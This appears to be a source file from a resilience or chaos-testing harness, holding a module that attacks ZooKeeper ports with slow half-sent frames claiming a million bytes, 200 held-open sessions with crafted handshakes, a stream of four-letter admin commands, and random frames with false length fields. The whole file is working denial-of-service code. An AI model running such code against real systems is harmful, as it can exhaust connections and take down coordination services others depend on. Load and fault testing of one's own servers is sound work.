/** The ZooKeeper port: half frames, floods of words, sessions by the hundred, requests that nest or lie. */
import type { Attack } from '../attack.ts';
import { sendAll, zeroFrame } from '../wire.ts';
import { pause } from '../../../shared/waiting.ts';

export const zookeeper: Attack = {
  name: 'zookeeper',
  summary: 'half frames, four-letter words, 200 sessions, and frames with wrong lengths',
  async run(context) {
    const { sockets, target, random } = context;
    const ports = target.zookeeperPorts;
    const halves = await Promise.all(ports.flatMap((port) => new Array<number>(60).fill(port)).map((port) => sockets.connect(port)));
    await Promise.all(
      halves.map((socket) => {
        return socket === undefined ? Promise.resolve(false) : sendAll(socket, zeroFrame(1_000_000, Buffer.alloc(8), 900_000), 2_000);
      }),
    );
    const sessions = await Promise.all(
      new Array<undefined>(200).fill(undefined).map((_, i) => sockets.connect(ports[i % ports.length] ?? 0)),
    );
    for (const socket of sessions) {
      if (socket === undefined) continue;
      socket.resume();
      socket.write(handshake());
    }
    let words = 0;
    while (!context.over()) {
      await Promise.all(
        ports.map(async (port) => {
          const socket = await sockets.connect(port);
          if (socket === undefined) return;
          socket.resume();
          socket.write(['ruok', 'mntr', 'cons', 'dump', 'stat'][random.int(5)] ?? 'ruok');
          words++;
          await pause(5);
          socket.destroy();
        }),
      );
      for (const socket of sessions.slice(0, 20)) {
        if (socket === undefined || socket.destroyed) continue;
        const noise = Buffer.from(random.bytes(64));
        noise.writeInt32BE(60, 0);
        socket.write(noise);
      }
    }
    return `${halves.length} half frames, ${sessions.length} sessions, ${words} words`;
  },
};

/** ConnectRequest: protocol version, last zxid, timeout, session id, password. */
function handshake(): Buffer {
  const bytes = Buffer.alloc(49);
  bytes.writeInt32BE(45, 0);
  bytes.writeInt32BE(10_000, 16);
  bytes.writeInt32BE(16, 28);
  return bytes;
}
